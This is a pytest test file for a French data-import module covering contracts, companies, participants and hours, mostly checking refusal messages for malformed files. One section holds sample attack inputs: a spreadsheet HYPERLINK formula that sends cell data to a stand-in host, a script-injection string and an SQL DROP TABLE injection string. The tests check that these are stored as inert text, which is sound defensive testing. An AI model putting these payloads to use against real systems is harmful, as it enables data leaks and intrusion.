"""Imports: every bad input one by one (a clear French message, nothing written), then valid files
of each kind imported once, twice (nothing changes) and changed (an update is counted)."""

from datetime import date

import pytest
from sqlalchemy import inspect
from sqlmodel import Session, select

from core.accounts.auth import Actor, AuthError
from core.exchange.imports import MAX_UPLOAD_BYTES, preview_import, run_import, template
from core.exchange.kinds import KINDS
from core.exchange.tables import read_table
from core.figures.filters import Filters
from core.figures.indicators import headline
from core.store.models import AuditEntry, Contract, Role
from tests.utils.files import counts, csv_bytes, xlsx_bytes

FACILITATOR = Actor("fanny", Role.FACILITATEUR)
HOLDER, TEMP_AGENCY = "73282932000074", "44306184100047"  # companies of the fixture store

CONTRACT_HEADER = ["reference", "objet", "acheteur", "nature", "date_debut", "date_fin",
                   "considerations_sociales", "heures_prevues", "montant_ht", "entreprise_siret"]
HOURS_HEADER = ["marche_reference", "entreprise_siret", "participant_code", "mois", "heures", "mode",
                "type_contrat", "structure_siret"]


def contract_row(**change: object) -> list[object]:
    row = {"reference": "K20", "objet": "Réhabilitation de l'école", "acheteur": "Ville de Test",
           "nature": "travaux", "date_debut": "01/03/2024", "date_fin": "28/02/2025",
           "considerations_sociales": "Clause sociale | Critère social", "heures_prevues": "1 200",
           "montant_ht": "850 000,00 €", "entreprise_siret": HOLDER}
    row.update(change)
    return [row[name] for name in CONTRACT_HEADER]


def hours_row(**change: object) -> list[object]:
    row = {"marche_reference": "K1", "entreprise_siret": HOLDER, "participant_code": "P3", "mois": "02/2022",
           "heures": "40", "mode": "mise à disposition", "type_contrat": "intérim d'insertion",
           "structure_siret": TEMP_AGENCY}
    row.update(change)
    return [row[name] for name in HOURS_HEADER]


def refused(store, kind: str, data: bytes, filename: str = "f.csv") -> str:
    """Import a bad file: it must be refused whole, with nothing written; returns the messages."""
    before = counts(store)
    report = run_import(store, actor=FACILITATOR, kind=kind, data=data, filename=filename)
    assert not report.ok and not report.applied
    assert counts(store) == before
    return "\n".join(report.error_messages())


# --- bad inputs, one by one ---------------------------------------------------------------------


def test_wrong_encoding(store):
    data = "nom;type\nVille d'Été;collectivité\n".encode("utf-16-le")  # no BOM: NUL bytes everywhere
    assert "Encodage du fichier non reconnu" in refused(store, "acheteurs", data)


def test_wrong_separator_reads_as_one_column(store):
    data = csv_bytes([["nom", "type"], ["Ville Nouvelle", "collectivité"]], delimiter="|")
    message = refused(store, "acheteurs", data)
    assert "Ligne 1, colonne « nom »" in message and "colonne obligatoire absente" in message


def test_utf8_file_with_a_few_bad_bytes_lists_those_rows_and_writes_nothing(store):
    data = ("nom;type\nVille d'Été;collectivité\n".encode() + b"Cr\xe8che de Test;autre\n"
            + "Hôpital;autre\n".encode())
    report = run_import(store, actor=FACILITATOR, kind="acheteurs", data=data, filename="a.csv")
    assert not report.ok and not report.applied
    assert [(e.row, e.column, e.value) for e in report.errors] == [(3, "nom", "Cr\ufffdche de Test")]
    assert "octet qui n'est pas de l'UTF-8" in report.error_messages()[0]


def test_database_refusal_shows_no_english_detail(store, monkeypatch):
    from sqlalchemy.exc import IntegrityError

    def refuse(write):
        raise IntegrityError("INSERT INTO buyer", {}, Exception("UNIQUE constraint failed: buyer.name"))

    monkeypatch.setattr("core.exchange.imports.retry_locked", refuse)
    message = refused(store, "acheteurs", csv_bytes([["nom", "type"], ["Ville Nouvelle", "collectivité"]]))
    assert message.startswith("La base a refusé l'enregistrement") and "UNIQUE" not in message


def test_empty_file(store):
    assert refused(store, "acheteurs", b"") == "Le fichier est vide."
    assert refused(store, "acheteurs", b"\r\n \r\n") == "Le fichier est vide."


def test_headers_only(store):
    assert "aucune ligne de données" in refused(store, "marches", csv_bytes([CONTRACT_HEADER]))


def test_missing_required_column(store):
    header = [h for h in CONTRACT_HEADER if h != "nature"]
    row = [v for h, v in zip(CONTRACT_HEADER, contract_row(), strict=True) if h != "nature"]
    message = refused(store, "marches", csv_bytes([header, row]))
    assert message == "Ligne 1, colonne « nature » : (vide) — colonne obligatoire absente de l'en-tête"


def test_duplicated_key_names_both_rows(store):
    data = csv_bytes([CONTRACT_HEADER, contract_row(), contract_row(reference="K21"), contract_row(objet="Autre")])
    message = refused(store, "marches", data)
    assert "Ligne 4, colonne « reference »" in message and "clé en double dans le fichier : lignes 2 et 4" in message


def test_duplicated_key_ignores_case_and_spaces(store):
    data = csv_bytes([["nom", "type"], ["Ville  Nouvelle", "autre"], ["ville nouvelle", "autre"]])
    assert "lignes 2 et 3" in refused(store, "acheteurs", data)


def test_unknown_buyer(store):
    message = refused(store, "marches", csv_bytes([CONTRACT_HEADER, contract_row(acheteur="Ville Fantôme")]))
    assert "Ligne 2, colonne « acheteur » : « Ville Fantôme » — acheteur inconnu" in message


@pytest.mark.parametrize(("column", "value", "expected"), [
    ("marche_reference", "K99", "marché inconnu"),
    ("entreprise_siret", "12345678000014", "entreprise inconnue"),
    ("participant_code", "P99", "participant inconnu"),
    ("structure_siret", HOLDER, "pas une structure d'insertion"),
])
def test_unknown_references_in_hours(store, column, value, expected):
    message = refused(store, "heures", csv_bytes([HOURS_HEADER, hours_row(**{column: value})]))
    assert f"Ligne 2, colonne « {column} » : « {value} »" in message and expected in message


def test_impossible_date(store):
    message = refused(store, "marches", csv_bytes([CONTRACT_HEADER, contract_row(date_debut="31/02/2024")]))
    assert "Ligne 2, colonne « date_debut » : « 31/02/2024 » — date inexistante" in message


def test_dates_out_of_order(store):
    message = refused(store, "marches", csv_bytes([CONTRACT_HEADER, contract_row(date_fin="01/01/2024")]))
    assert "la date de fin doit être égale ou postérieure à la date de début (01/03/2024)" in message


def test_planned_hours_required_with_a_clause(store):
    message = refused(store, "marches", csv_bytes([CONTRACT_HEADER, contract_row(heures_prevues="")]))
    assert "colonne « heures_prevues » : (vide) — valeur obligatoire quand les considérations" in message


def test_text_in_a_number(store):
    message = refused(store, "marches", csv_bytes([CONTRACT_HEADER, contract_row(montant_ht="beaucoup")]))
    assert "Ligne 2, colonne « montant_ht » : « beaucoup » — nombre attendu" in message


@pytest.mark.parametrize("value", ["-5", "0", "900", "251"])
def test_negative_or_absurd_hours(store, value):
    message = refused(store, "heures", csv_bytes([HOURS_HEADER, hours_row(heures=value)]))
    assert f"colonne « heures » : « {value} » — nombre d'heures attendu supérieur à 0 et au plus 250" in message


def test_bad_siret_checksum(store):
    message = refused(store, "entreprises", csv_bytes([["siret", "raison_sociale", "type"],
                                                      ["12345678000015", "Faux SIRET", "EI"],
                                                      ["1234567800001", "Trop court", "EI"]]))
    assert "Ligne 2, colonne « siret » : « 12345678000015 » — SIRET invalide" in message
    assert "Ligne 3, colonne « siret » : « 1234567800001 » — SIRET attendu : 14 chiffres" in message


def test_la_poste_sirets_follow_their_own_rule(store):
    data = csv_bytes([["siret", "raison_sociale", "type"], ["35600000049837", "La Poste", "entreprise classique"]])
    assert run_import(store, actor=FACILITATOR, kind="entreprises", data=data, filename="e.csv").created == 1
    wrong = csv_bytes([["siret", "raison_sociale", "type"], ["35600000049838", "La Poste", "entreprise classique"]])
    assert "clé de contrôle de La Poste" in refused(store, "entreprises", wrong)


def test_unknown_enumeration_names_accepted_values(store):
    message = refused(store, "acheteurs", csv_bytes([["nom", "type"], ["Ville Nouvelle", "mairie"]]))
    assert "valeur inconnue ; valeurs acceptées : collectivité, établissement public" in message


def test_every_error_of_the_file_is_listed(store):
    data = csv_bytes([CONTRACT_HEADER, contract_row(date_debut="31/02/2024", acheteur="X"),
                      contract_row(reference="K21", montant_ht="?"), contract_row(reference="K22", nature="")])
    report = preview_import(store, "marches", data, "m.csv")
    assert [(e.row, e.column) for e in report.errors] == [
        (2, "date_debut"), (2, "acheteur"), (3, "montant_ht"), (4, "nature")]
    assert report.rows == [] and report.summary().startswith("4 erreurs")


def test_xlsx_that_is_not_a_zip(store):
    assert "ce n'est pas un classeur Excel valide" in refused(store, "acheteurs", b"nom;type\nA;autre\n", "f.xlsx")


def test_upload_over_50_mb_refused_before_parsing(store):
    message = refused(store, "acheteurs", b"x" * (MAX_UPLOAD_BYTES + 1))
    assert "la limite est de 50 Mo" in message


def test_unknown_kind(store):
    assert "Type de fichier inconnu « cafe »" in refused(store, "cafe", csv_bytes([["a"], ["b"]]))


def test_reader_is_refused_and_nothing_written(store):
    before = counts(store)
    with pytest.raises(AuthError, match="facilitateur"):
        run_import(store, actor=Actor("lea", Role.LECTEUR), kind="marches",
                   data=csv_bytes([CONTRACT_HEADER, contract_row()]), filename="m.csv")
    with pytest.raises(AuthError):
        run_import(store, actor=None, kind="marches", data=csv_bytes([CONTRACT_HEADER, contract_row()]),
                   filename="m.csv")
    assert counts(store) == before


# --- hostile content is stored as inert text ----------------------------------------------------


def _stored_object(store, reference: str) -> str:
    with Session(store) as session:
        return session.exec(select(Contract.object).where(Contract.reference == reference)).one()


def test_hyperlink_formula_stored_as_text(store):
    # A text cell that reads as a formula (a formula cell itself is read as its saved result).
    formula = '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")'
    data = xlsx_bytes([CONTRACT_HEADER, contract_row(objet=formula)], title="marches", formulas_as_text=True)
    report = run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.xlsx")
    assert report.ok and report.created == 1
    assert _stored_object(store, "K20") == formula


def test_script_stored_as_text(store):
    script = "<script>alert('x')</script> Travaux"
    data = csv_bytes([CONTRACT_HEADER, contract_row(objet=script)])
    report = run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.csv")
    assert report.created == 1 and _stored_object(store, "K20") == script


def test_sql_looking_text_stored_as_text(store):
    sql = "'); DROP TABLE contract; --"
    data = csv_bytes([CONTRACT_HEADER, contract_row(reference=sql, objet=sql)])
    assert run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.csv").created == 1
    assert "contract" in inspect(store).get_table_names()
    assert _stored_object(store, sql) == sql
    assert run_import(store, actor=FACILITATOR, kind="marches", data=data, filename="m.csv").unchanged == 1


# --- valid files of every kind ------------------------------------------------------------------

VALID: dict[str, tuple[list[list[object]], int, list[object]]] = {
    # kind: (rows, index of the row to change, changed row)
    "acheteurs": ([["Nom", "Type", "Membre permanent", "SIRET"],
                   ["Communauté d'Agglomération", "Collectivite", "oui", "12345678000014"],
                   ["Office Public de l'Habitat", "bailleur social", "non", ""]],
                  2, ["Office Public de l'Habitat", "bailleur social", "oui", ""]),
    "marches": ([CONTRACT_HEADER, contract_row(),
                 contract_row(reference="K21", considerations_sociales="Marché réservé", heures_prevues="",
                              date_fin="")],
                1, contract_row(heures_prevues="1 500")),
    "entreprises": ([["siret", "raison_sociale", "type", "commune"],
                     ["55555555000022", "Régie des Minimes", "Régie de quartier", "La Rochelle"],
                     ["98765432000033", "Bâti Service", "entreprise classique", "Aytré"]],
                    2, ["98765432000033", "Bâti Service", "EI", "Aytré"]),
    "participants": ([["code", "sexe", "annee_naissance", "publics", "qpv", "niveau_formation", "commune"],
                      ["P20", "F", "1999", "DELD | jeune", "oui", "CAP/BEP", "La Rochelle"],
                      ["P21", "homme", "1968", "senior de plus de 50 ans", "", "sans diplôme", "Aytré"]],
                     1, ["P20", "F", "1999", "DELD | jeune | RQTH", "oui", "CAP/BEP", "La Rochelle"]),
    "heures": ([HOURS_HEADER, hours_row(), hours_row(participant_code="P1", mois="2022-03", heures="151,67",
                                                   mode="embauche directe", type_contrat="CDI", structure_siret="")],
               1, hours_row(heures="42,5")),
    "sorties": ([["participant_code", "date", "type_sortie", "detail"],
                 ["P1", "30/06/2022", "emploi durable", "CDI chez le titulaire"],
                 ["P2", "2022-04-15", "sortie positive", ""]],
                2, ["P2", "2022-04-15", "sortie positive", "formation qualifiante"]),
    "emplois": ([["date", "emplois_disponibles", "secteur", "source"],
                 ["01/01/2022", "1 500", "", "France Travail"],
                 ["01/01/2022", "120", "peinture", "France Travail"]],
                2, ["01/01/2022", "130", "peinture", "France Travail"]),
}


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp1252", "xlsx"])
@pytest.mark.parametrize("kind", list(VALID))
def test_valid_file_imported_then_idempotent_then_updated(store, kind, encoding):
    rows, changed_index, changed = VALID[kind]

    def encode(table: list[list[object]]) -> tuple[bytes, str]:
        if encoding == "xlsx":
            return xlsx_bytes(table), f"{kind}.xlsx"
        return csv_bytes(table, encoding=encoding), f"{kind}.csv"

    def encoded(table: list[list[object]]) -> dict[str, object]:
        data, filename = encode(table)
        return {"data": data, "filename": filename}

    first = run_import(store, actor=FACILITATOR, kind=kind, **encoded(rows))
    assert first.ok, first.error_messages()
    assert (first.created, first.updated, first.unchanged, first.applied) == (2, 0, 0, True)
    after_first = counts(store)

    again = run_import(store, actor=FACILITATOR, kind=kind, **encoded(rows))
    assert (again.created, again.updated, again.unchanged, again.applied) == (0, 0, 2, False)
    assert counts(store) == after_first
    assert "déjà à jour" in again.summary()

    edited = [*rows[:changed_index], changed, *rows[changed_index + 1:]]
    third = run_import(store, actor=FACILITATOR, kind=kind, **encoded(edited))
    assert (third.created, third.updated, third.unchanged) == (0, 1, 1)
    assert counts(store)["AuditEntry"] == after_first["AuditEntry"] + 2  # the row, and the import's summary


def test_preview_writes_nothing_and_apply_writes(store):
    from core.exchange.imports import apply_import

    before = counts(store)
    report = preview_import(store, "marches", csv_bytes([CONTRACT_HEADER, contract_row()]), "m.csv")
    assert report.ok and report.created == 1 and counts(store) == before
    assert "rien n'est encore enregistré" in report.summary()
    applied = apply_import(store, actor=FACILITATOR, report=report)
    assert applied.applied and counts(store)["Contract"] == before["Contract"] + 1


def test_audit_entries_carry_before_and_after(store):
    run_import(store, actor=FACILITATOR, kind="marches", data=csv_bytes([CONTRACT_HEADER, contract_row()]),
               filename="m.csv")
    run_import(store, actor=FACILITATOR, kind="marches",
               data=csv_bytes([CONTRACT_HEADER, contract_row(objet="Nouvel objet")]), filename="m.csv")
    with Session(store) as session:
        entries = session.exec(select(AuditEntry).where(AuditEntry.entity == "contract")
                               .order_by(AuditEntry.id)).all()
    assert [e.action for e in entries] == ["import : création", "import", "import : modification", "import"]
    assert entries[2].username == "fanny" and entries[2].entity_key == "K20"
    assert "Réhabilitation" in entries[2].before and "Nouvel objet" in entries[2].after


def test_unknown_columns_ignored_and_said_so(store):
    data = csv_bytes([["nom", "type", "Commentaire"], ["Ville Nouvelle", "autre", "à rappeler"]])
    report = run_import(store, actor=FACILITATOR, kind="acheteurs", data=data, filename="a.csv")
    assert report.created == 1 and "Colonnes inconnues ignorées : « Commentaire »." in report.notes


def test_hours_import_changes_the_headline(store):
    year = Filters(2022, 2022, at=date(2022, 3, 31))
    before = headline(store, year)
    data = csv_bytes([HOURS_HEADER, hours_row(participant_code="P2", mois="03/2022", heures="100",
                                              mode="embauche directe", type_contrat="CDD", structure_siret="")])
    assert run_import(store, actor=FACILITATOR, kind="heures", data=data, filename="h.csv").created == 1
    after = headline(store, year)
    assert after["heures_realisees"] == before["heures_realisees"] + 100
    assert after["participants"] == before["participants"] + 1
    assert after["personnes_en_contrat"] == before["personnes_en_contrat"] + 1


@pytest.mark.parametrize("kind", list(KINDS))
def test_templates_have_the_exact_headers(kind):
    names = KINDS[kind].names
    assert list(read_table(template(kind, "csv"), "t.csv").columns) == names
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(template(kind, "xlsx")))
    assert book.sheetnames == [kind, "aide"]
    assert [c.value for c in book[kind][1]] == names
    assert [row[0] for row in book["aide"].iter_rows(min_row=2, values_only=True)] == names


def test_command_line_import(tmp_path, monkeypatch, capsys):
    from core.__main__ import main

    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    bad, good = tmp_path / "bad.csv", tmp_path / "good.csv"
    bad.write_bytes(csv_bytes([["nom", "type"], ["Ville A", "collectivité"], ["Ville B", "mairie"]]))
    good.write_bytes(csv_bytes([["nom", "type"], ["Ville A", "collectivité"]], encoding="cp1252"))
    assert main(["import", "acheteurs", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "Ligne 3, colonne « type » : « mairie » — valeur inconnue" in err and "rien n'a été enregistré" in err
    assert main(["import", "acheteurs", str(good)]) == 0
    assert "1 création" in capsys.readouterr().out
    assert main(["import", "acheteurs", str(good)]) == 0
    assert "0 création, 0 modification, 1 sans changement" in capsys.readouterr().out


def test_the_error_report_keeps_every_message_whole(store):
    import io

    from openpyxl import load_workbook

    from core.exchange.imports import errors_workbook

    data = ("marche_reference;entreprise_siret;participant_code;mois;heures;mode\n"
            "K1;73282932000074;P1;10/2021;300;embauche directe\n").encode("cp1252")
    report = preview_import(store, "heures", data, "heures-octobre.csv")
    sheet = load_workbook(io.BytesIO(errors_workbook(report)))["erreurs"]
    assert [c.value for c in sheet[1]] == ["ligne", "colonne", "valeur", "attendu"]
    line, column, value, expected = (c.value for c in sheet[2])
    assert (line, column, value) == (2, "heures", "300")
    assert expected == ("nombre d'heures attendu supérieur à 0 et au plus 250 (ce qu'une personne peut travailler "
                        "en un mois)")
    assert sheet["D2"].alignment.wrap_text and sheet.column_dimensions["D"].width >= 90
